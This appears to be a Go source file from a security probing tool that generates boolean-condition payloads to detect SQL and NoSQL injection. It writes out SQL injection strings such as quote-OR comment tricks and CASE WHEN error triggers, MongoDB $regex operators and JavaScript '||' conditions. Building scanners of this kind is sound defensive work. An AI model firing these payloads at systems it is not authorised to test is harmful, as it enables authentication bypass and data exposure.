package proberun

import (
	"encoding/json"
	"fmt"

	"gauntlet/capability"
	"gauntlet/internal/leaf/probe"
)

// A Condition puts a comparison of random numbers where a query would evaluate it. If the answers follow its truth, the value is
// part of the query.
type Condition struct {
	Variant string
	write   func(holds bool, m Mark) any
	// All puts the value into all free texts of the tool: a user name alone proves nothing if the password must match too.
	All bool
	// Whole says that the value is a whole condition of its language, and not one behind the end of another.
	Whole bool
}

// Value returns a value whose condition does or does not hold, and its text. Every value needs a new Mark. A twin has no syntax,
// see Twin.
func (c *Condition) Value(holds, twin bool, m Mark) (value any, text string) {
	value = c.write(holds, m)
	if twin {
		value = Twin(value, "")
	}
	if s, ok := value.(string); ok {
		return s, s
	}
	encoded, err := json.Marshal(value)
	if err != nil { // maps of strings always encode
		panic(err)
	}
	return value, string(encoded)
}

// comparison returns a condition in SQL and JavaScript syntax: a product and its claimed value.
func comparison(holds bool, m Mark, equals string) string {
	said := m.A * m.B
	if !holds {
		said++
	}
	return fmt.Sprintf("%d*%d%s%d", m.A, m.B, equals, said)
}

// inSQL puts a condition between two texts. A random word comes first, since no record contains it.
func inSQL(variant, before, after string) Condition {
	return Condition{Variant: variant, write: func(holds bool, m Mark) any { return before + comparison(holds, m, "=") + after }}
}

func behindWord(variant, before, after string) Condition {
	return Condition{Variant: variant, write: func(holds bool, m Mark) any { return m.Token + before + comparison(holds, m, "=") + after }}
}

var wholeCondition = Condition{Variant: "a condition behind a number", Whole: true, write: inSQL("", "0 OR ", "").write}

var sqlConditions = []Condition{
	behindWord("a condition behind a quotation mark", "' OR ", " -- "),
	behindWord("a condition behind a quotation mark and a bracket", "') OR ", " -- "),
	behindWord("a condition behind a double quotation mark", `" OR `, " -- "),
	wholeCondition,
	inSQL("a limit behind a column", "1 LIMIT (CASE WHEN ", " THEN 1 ELSE 0 END) -- "),
	inSQL("a sort that can fail", "(CASE WHEN ", " THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"),
	inSQL("a sort that can fail in SQLite", "(CASE WHEN ", " THEN 1 ELSE abs(-9223372036854775808) END)"),
}

// operator returns an operator of a document database. Its name and length are the same both times, since a refusal may quote
// either.
func operator(holds bool, m Mark) any {
	if holds {
		return map[string]any{"$regex": "^(?!" + m.Token + ")"}
	}
	return map[string]any{"$regex": "^(?=" + m.Token + ")"}
}

var noSQLConditions = []Condition{
	{Variant: "an operator in the place of a text", Whole: true, write: operator},
	{Variant: "an operator in the place of every text", Whole: true, All: true, write: operator},
	{Variant: "code in a condition", write: func(holds bool, m Mark) any {
		return m.Token + "' || " + comparison(holds, m, "==") + " || '"
	}},
}

// Conditions returns the comparisons to try on a target; none for classes without such a proof, and for parameters that take a
// whole query, where the caller writes the conditions anyway.
func (t *Target) Conditions() []Condition {
	switch {
	case t.Role == capability.Query || t.Role == capability.Command:
		return nil
	case t.Class == probe.SQLInjection:
		return sqlConditions
	case t.Class == probe.NoSQLInjection:
		// A text cannot be an operator, but many servers never check arguments against their schema.
		return noSQLConditions
	}
	return nil
}
